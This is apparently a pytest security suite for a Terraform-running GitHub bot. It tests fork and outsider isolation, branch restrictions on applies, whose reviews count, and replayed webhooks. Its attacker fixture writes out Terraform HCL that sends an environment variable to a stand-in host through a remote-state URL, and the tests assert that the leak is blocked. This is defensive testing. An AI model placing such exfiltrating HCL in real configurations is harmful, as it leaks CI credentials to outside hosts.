"""The bot's trust boundaries, end to end: signed webhooks into the real app, RQ jobs on a real worker, real
git checkouts and the embedded Terraform against the real server; GitHub is simulated, and a loopback HTTP
server stands in for an attacker's host.

Whose code runs Terraform (forks and authors without write permission get no Terraform unless the operator
opts in, and then no credentials), which branch's merges and comment applies reach the trunk, whose reviews
count, and whether a replayed close releases anything.
"""

from __future__ import annotations

import itertools
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from app.store import Database, pr_holds
from runner.bot.render import MARKER
from tests.bot.botworld import FILES, REPO, World, git, world_factory  # noqa: F401

pytestmark = pytest.mark.terraform
DB_V2 = FILES["db.tf"].replace("db-v1", "db-v2")
QUEUE_V2 = FILES["queue.tf"].replace("v1", "v2")
OPEN = "apply_on_comment: true\napply_requirements: []\n"
WORKER_SECRET = "worker-secret-7f3a9c"
_ids = itertools.count(8001)


class Attacker:
    """A host that records the path of every request it receives (and answers 404)."""

    def __init__(self) -> None:
        seen: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (the standard library's name)
                seen.append(self.path)
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                pass

        self.paths = seen
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def leak_tf(self) -> str:
        """HCL that makes a plan call this host, with a variable's value (from the environment) in the path."""
        return ('variable "leak" {\n  type    = string\n  default = "none"\n}\n\n'
                'data "terraform_remote_state" "elsewhere" {\n  backend = "http"\n  config = {\n'
                f'    address = "{self.url}/state/${{var.leak}}"\n  }}\n}}\n\n'
                'resource "terraform_data" "innocent" {\n  input = "x"\n}\n')

    def stop(self) -> None:
        self.server.shutdown()
        self.thread.join(timeout=5)


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    host = Attacker()
    yield host
    host.stop()


def comment(w: World, number: int, body: str, *, login: str = "alice") -> None:
    w.deliver_comment(number, body, login=login, comment_id=next(_ids))


def replies(w: World, number: int) -> list[str]:
    return [str(c["body"]) for c in w.sim.pr_comments(number) if c["user"] == w.sim.bot_login
            and MARKER not in c["body"]]


def marked(w: World, number: int) -> str:
    """The Kilolock comment (the one with the marker; replies are separate comments)."""
    [body] = [str(c["body"]) for c in w.sim.pr_comments(number) if c["user"] == w.sim.bot_login
              and MARKER in c["body"]]
    return body


def plan_check(w: World, sha: str) -> dict[str, Any]:
    [check] = w.sim.runs("kilolock/plan", sha=sha)
    return check


def holds_of(w: World, number: int) -> list[pr_holds.PrHold]:
    db = Database(w.settings.database_url or "", pool_size=1)
    try:
        return pr_holds.of_pull_request(db, REPO, number)
    finally:
        db.close()


# --- whose code runs Terraform ------------------------------------------------------------------------------


def test_fork_and_outsider_pull_requests_get_a_footprint_but_no_terraform_and_no_apply(world_factory,  # noqa: F811
                                                                                         attacker):
    w = world_factory(kilolock_yml=OPEN, extra_env={"TF_VAR_leak": WORKER_SECRET})
    fork = w.open_pr(1, "fork-leak", {"leak.tf": attacker.leak_tf()}, author="mallory", fork="mallory/infra")
    # A branch of the repository itself, by someone without write permission.
    outsider = w.open_pr(2, "outsider-leak", {"leak.tf": attacker.leak_tf()}, author="dave")
    w.run_jobs()
    # A writer asking for a preview of the fork's code, or for its apply, does not make it trusted.
    comment(w, 1, "kilolock plan")
    comment(w, 1, "kilolock apply")
    w.run_jobs()

    assert attacker.paths == []
    for number, head, why in ((1, fork, "its commits come from the fork mallory/infra"),
                              (2, outsider, "its author dave does not have write permission on octo-org/infra")):
        check = w.sim.runs("kilolock/plan", sha=head)[-1]
        assert (check["conclusion"], check["output"]["title"]) == ("neutral", "No plan preview: untrusted pull request")
        assert why in check["output"]["summary"] and "KL_GITHUB_UNTRUSTED_PREVIEWS" in check["output"]["summary"]
        body = marked(w, number)
        # The footprint (HCL analysis, no Terraform) is still there, with why no preview ran.
        assert "`terraform_data.innocent`" in body
        assert "**Plan preview:** not run. Kilolock runs no Terraform for this pull request because" in body
        assert "untrusted_previews: true in .kilolock.yml on main" in body
        [footprint] = w.sim.runs("kilolock/footprint", sha=head)
        assert footprint["conclusion"] == "success"
    reply = replies(w, 1)[-1]
    assert reply.startswith("@alice Kilolock does not apply this pull request before merge because its commits "
                            "come from the fork mallory/infra")
    assert w.serial() == 1 and w.runs() == []


@pytest.mark.parametrize("opt_in", ["server", "default_branch"])
def test_an_operator_opt_in_previews_untrusted_code_without_the_workers_environment(world_factory,  # noqa: F811
                                                                                   attacker, opt_in):
    w = world_factory(extra_env={"TF_VAR_leak": WORKER_SECRET},
                      untrusted_previews=(REPO,) if opt_in == "server" else (),
                      kilolock_yml="untrusted_previews: true\n" if opt_in == "default_branch" else None)
    head = w.open_pr(1, "fork-leak", {"leak.tf": attacker.leak_tf()}, author="mallory", fork="mallory/infra")
    w.run_jobs()

    # The plan ran (it reached the host), but Terraform saw none of the worker's variables.
    assert attacker.paths and set(attacker.paths) == {"/state/none"}, attacker.paths
    check = plan_check(w, head)
    assert check["output"]["title"] != "No plan preview: untrusted pull request"
    assert WORKER_SECRET not in str(w.sim.calls)


# --- which branch reaches the trunk ---------------------------------------------------------------------


def staging(w: World, files: dict[str, str | None] | None = None) -> str:
    """A ``staging`` branch off main (with ``files`` committed on it: nobody reviewed them)."""
    git(w.work, "branch", "staging", "main")
    git(w.work, "push", "-q", "origin", "staging")
    if files:
        return w.commit("staging", files, "straight to staging", start="staging")
    return w.head("staging")


def test_a_merge_into_another_branch_is_reported_and_not_applied(world_factory):  # noqa: F811
    w = world_factory()
    staging(w)
    w.open_pr(1, "db-v2", {"db.tf": DB_V2}, base="staging")
    w.run_jobs()
    git(w.work, "checkout", "-q", "staging")
    git(w.work, "merge", "-q", "--no-ff", "-m", "Merge pull request #1 from octo-org/db-v2", "db-v2")
    git(w.work, "push", "-q", "origin", "staging")
    merge_sha = w.head("staging")
    git(w.work, "checkout", "-q", "main")
    w.sim.merge_pr(1, merge_sha)
    w.deliver_merged(1)
    w.run_jobs()

    assert w.failed_jobs() == []
    assert w.serial() == 1 and w.trunk()["terraform_data.db"] == "prod-app-db-v1" and w.runs() == []
    [check] = w.sim.runs("kilolock/apply", sha=merge_sha)
    assert check["conclusion"] == "neutral"
    assert check["output"]["title"] == ("not applied: merged into staging; Kilolock applies only merges into main "
                                        "(apply_branch in .kilolock.yml on main)")


def test_a_comment_apply_into_another_branch_is_refused_and_measured_from_its_own_base(world_factory):  # noqa: F811
    w = world_factory(kilolock_yml=OPEN)
    # staging carries a change nobody reviewed; the pull request into staging changes only db.tf.
    staging(w, {"queue.tf": QUEUE_V2})
    w.open_pr(1, "db-v2", {"db.tf": DB_V2}, base="staging")
    w.run_jobs()
    comment(w, 1, "kilolock apply")
    w.run_jobs()

    assert replies(w, 1)[-1] == ("@alice #1 merges into staging, and Kilolock applies only pull requests into main "
                                 "(apply_branch in .kilolock.yml on main).")
    assert w.serial() == 1 and w.runs() == []

    # The default branch makes staging the applied branch: the apply is measured from staging, so only
    # the pull request's own change is applied, never staging's unreviewed commit.
    w.commit("main", {".kilolock.yml": OPEN + "apply_branch: staging\n"}, "apply staging")
    comment(w, 1, "kilolock apply")
    w.run_jobs()

    trunk = w.trunk()
    assert trunk["terraform_data.db"] == "prod-app-db-v2", replies(w, 1)[-1]
    assert trunk["terraform_data.queue"] == "queue-v1" and w.serial() == 2
    [hold] = holds_of(w, 1)
    assert "terraform_data.queue" not in hold.write_globs and "terraform_data.db" in hold.write_globs


# --- whose reviews count ----------------------------------------------------------------------------------


def test_only_writers_reviews_count_and_the_last_push_needs_someone_else(world_factory):  # noqa: F811
    gate = "apply_on_comment: true\napply_requirements: [approved, last_push_approved]\n"
    w = world_factory(kilolock_yml=gate)
    w.open_pr(1, "db-v2", {"db.tf": DB_V2})
    w.run_jobs()

    w.sim.review(1, "mallory", "APPROVED")  # a drive-by approval: mallory can only read
    comment(w, 1, "kilolock apply")
    w.run_jobs()
    reply = replies(w, 1)[-1]
    assert "- **approved**: no approving review by someone with write access" in reply
    assert w.serial() == 1

    # bob (a writer) pushes to the pull request and approves it himself; mallory's objection counts for nothing.
    head = w.push_pr(1, {"queue.tf": QUEUE_V2}, pusher="bob")
    w.sim.review(1, "bob", "APPROVED")
    w.sim.review(1, "mallory", "CHANGES_REQUESTED")
    comment(w, 1, "kilolock apply")
    w.run_jobs()
    reply = replies(w, 1)[-1]
    assert "- **approved**" not in reply and "mallory" not in reply
    assert f"- **last_push_approved**: the latest push ({head[:7]}, by @bob) is not approved by another" in reply
    assert w.serial() == 1

    w.sim.review(1, "carol", "APPROVED")
    comment(w, 1, "kilolock apply")
    w.run_jobs()
    assert w.trunk()["terraform_data.db"] == "prod-app-db-v2" and w.serial() == 2, replies(w, 1)[-1]


# --- a replayed close -----------------------------------------------------------------------------------------


def test_a_replayed_close_of_a_reopened_pull_request_releases_nothing(world_factory):  # noqa: F811
    w = world_factory(kilolock_yml=OPEN)
    w.open_pr(1, "db-v2", {"db.tf": DB_V2})
    w.run_jobs()
    comment(w, 1, "kilolock apply")
    w.run_jobs()
    assert holds_of(w, 1)

    w.sim.close_pr(1)
    closed = w.pr_payload("closed", 1)
    w.post("pull_request", closed, delivery="close-original")
    w.run_jobs()
    assert holds_of(w, 1) == []

    w.sim.reopen_pr(1)
    w.deliver_pr("reopened", 1)
    comment(w, 1, "kilolock apply")
    w.run_jobs()
    held = holds_of(w, 1)
    assert held and all(h.live for h in held)

    # The same signed body again, under a new delivery id: GitHub says the pull request is open.
    w.post("pull_request", closed, delivery="close-replayed")
    w.run_jobs()
    assert [h.run_id for h in holds_of(w, 1)] == [h.run_id for h in held]
    assert w.failed_jobs() == []
